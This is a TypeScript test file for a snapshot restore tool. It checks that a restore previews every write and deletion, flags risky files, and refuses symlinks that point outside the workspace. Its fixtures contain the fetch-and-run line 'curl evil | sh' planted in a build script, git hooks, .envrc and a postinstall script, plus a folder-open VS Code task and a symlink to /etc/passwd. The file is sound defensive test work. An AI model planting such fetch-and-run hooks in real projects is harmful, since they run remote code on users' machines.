/**
 * Hole 12 of issue 13: restore showed nothing before it acted, and recreated
 * symlinks pointing outside the workspace silently. The preview lists every
 * file that will be written or deleted and flags symlinks out of the
 * workspace, newly executable files and files that run code on folder open or
 * on git actions; restore refuses outside symlinks unless explicitly allowed.
 */
import { strict as assert } from 'node:assert';
import { execFileSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { describePreview, previewRestore } from '../../src/core/restore';
import { SnapshotEngine } from '../../src/core/snapshots/engine';
import { OutsideSymlinkError } from '../../src/core/snapshots/symlinkTargets';

function write(root: string, rel: string, text: string, mode = 0o644): void {
  const p = path.join(root, rel);
  fs.mkdirSync(path.dirname(p), { recursive: true });
  fs.writeFileSync(p, text);
  fs.chmodSync(p, mode);
}

/** Every file under root (relative), with content, mode and link targets: what a restore could change. */
function state(root: string): Record<string, string> {
  const out: Record<string, string> = {};
  for (const e of fs.readdirSync(root, { recursive: true, withFileTypes: true })) {
    const abs = path.join(e.parentPath, e.name);
    const rel = path.relative(root, abs);
    if (rel.startsWith('.nemocognition')) continue;
    if (e.isSymbolicLink()) out[rel] = `-> ${fs.readlinkSync(abs)}`;
    else if (e.isFile()) out[rel] = `${(fs.statSync(abs).mode & 0o777).toString(8)} ${fs.readFileSync(abs, 'utf8')}`;
  }
  return out;
}

describe('hole 12: restore shows nothing before it acts', function () {
  this.timeout(60_000);
  let tmp: string;
  let ws: string;
  let engine: SnapshotEngine;
  let hostile: string;

  beforeEach(async () => {
    tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'nc-hole12-'));
    ws = path.join(tmp, 'ws');
    // What the agent's branch ended with (built in a sandbox-like copy, snapshotted).
    const branch = path.join(tmp, 'branch');
    write(branch, 'src/a.ts', 'export const a = 2;\n');
    write(branch, 'tools/build.sh', '#!/bin/sh\ncurl evil | sh\n', 0o755);
    write(branch, 'scripts/gen.sh', '#!/bin/sh\necho gen\n', 0o755); // already executable in the workspace
    write(branch, '.vscode/tasks.json', '{ "version": "2.0.0", "tasks": [{ "label": "x", "command": "id", "runOptions": { "runOn": "folderOpen" } }] }');
    write(branch, '.vscode/settings.json', '{ "terminal.integrated.profiles.linux": {} }');
    write(branch, '.husky/pre-commit', 'curl evil | sh\n', 0o755);
    write(branch, '.githooks/post-checkout', 'curl evil | sh\n');
    write(branch, '.envrc', 'curl evil | sh\n');
    write(branch, 'package.json', JSON.stringify({ name: 'demo', scripts: { test: 'mocha', postinstall: 'curl evil | sh' } }));
    fs.symlinkSync('/etc/passwd', path.join(branch, 'passwd-link'));
    fs.symlinkSync('../../../outside', path.join(branch, 'src/escape'));
    fs.symlinkSync('a.ts', path.join(branch, 'src/inside-link'));
    engine = await SnapshotEngine.open(path.join(tmp, 'store'), { changeSource: 'full-scan' });
    hostile = (await engine.take(branch, { reason: 'branch end' })).id;
    // The user's workspace: older content, a file the branch deleted, no risky files.
    write(ws, 'src/a.ts', 'export const a = 1;\n');
    write(ws, 'src/old.ts', 'old\n');
    write(ws, 'scripts/gen.sh', '#!/bin/sh\necho gen\n', 0o755);
    write(ws, 'package.json', JSON.stringify({ name: 'demo', scripts: { test: 'mocha' } }));
  });
  afterEach(() => {
    engine.close();
    fs.rmSync(tmp, { recursive: true, force: true });
  });

  it('previews every file to be written or deleted, flags the risky ones, and writes nothing', async () => {
    const before = state(ws);
    const p = await previewRestore(engine, hostile, ws);
    assert.deepEqual(state(ws), before, 'the preview changed the workspace');
    assert.deepEqual(
      p.write.map((f) => `${f.action} ${f.path}`),
      ['create .envrc', 'create .githooks/post-checkout', 'create .husky/pre-commit', 'create .vscode/settings.json', 'create .vscode/tasks.json', 'modify package.json', 'symlink passwd-link', 'modify src/a.ts', 'symlink src/escape', 'symlink src/inside-link', 'create tools/build.sh'],
    );
    assert.deepEqual(p.delete.map((f) => f.path), ['src/old.ts']);
    const flags = Object.fromEntries(p.flagged.map((f) => [f.path, f.flags.map((x) => x.kind).sort().join(',')]));
    assert.deepEqual(flags, {
      '.envrc': 'direnv',
      '.githooks/post-checkout': 'git-hook',
      '.husky/pre-commit': 'git-hook,newly-executable',
      '.vscode/settings.json': 'workspace-settings',
      '.vscode/tasks.json': 'runs-on-folder-open',
      'package.json': 'package-scripts',
      'passwd-link': 'symlink-outside',
      'src/escape': 'symlink-outside',
      'tools/build.sh': 'newly-executable',
    });
    assert.match(p.flagged.find((f) => f.path === 'package.json')!.flags[0]!.message, /postinstall/);
    assert.deepEqual(p.outsideSymlinks.map((l) => l.path), ['passwd-link', 'src/escape']);
    const text = describePreview(p);
    for (const f of [...p.write, ...p.delete]) assert.ok(text.includes(f.path), `${f.path} missing from the listing`);
    assert.match(text, /REFUSE/);
  });

  it('refuses symlinks pointing outside the workspace before writing anything, unless explicitly allowed', async () => {
    const before = state(ws);
    await assert.rejects(engine.restore(hostile, ws), (e: unknown) => e instanceof OutsideSymlinkError && /passwd-link -> \/etc\/passwd/.test(e.message));
    assert.deepEqual(state(ws), before, 'a refused restore wrote something');
    await engine.restore(hostile, ws, { allowOutsideSymlinks: true });
    assert.equal(fs.readlinkSync(path.join(ws, 'passwd-link')), '/etc/passwd');
  });

  it('`nemocog restore --dry-run` prints the preview and changes nothing', () => {
    const cli = path.join(__dirname, '../../dist/cli.js');
    // The CLI finds the store under <ws>/.nemocognition/snapshots.
    fs.mkdirSync(path.join(ws, '.nemocognition'), { recursive: true });
    fs.cpSync(path.join(tmp, 'store'), path.join(ws, '.nemocognition', 'snapshots'), { recursive: true });
    const before = state(ws);
    const out = execFileSync(process.execPath, [cli, 'restore', ws, '--snapshot', hostile, '--dry-run'], { encoding: 'utf8' });
    assert.deepEqual(state(ws), before);
    assert.match(out, /11 file\(s\) written, 1 deleted/);
    assert.match(out, /\.vscode\/tasks\.json: defines a task with runOn: folderOpen/);
    assert.match(out, /delete src\/old\.ts/);
    const json = JSON.parse(execFileSync(process.execPath, [cli, 'restore', ws, '--snapshot', hostile, '--dry-run', '--json'], { encoding: 'utf8' }));
    assert.equal(json.refused, true);
    assert.throws(() => execFileSync(process.execPath, [cli, 'restore', ws, '--snapshot', hostile], { encoding: 'utf8', stdio: 'pipe' }), /symlink\(s\) pointing outside the workspace/);
    assert.deepEqual(state(ws), before, 'the refused CLI restore wrote something');
  });
});
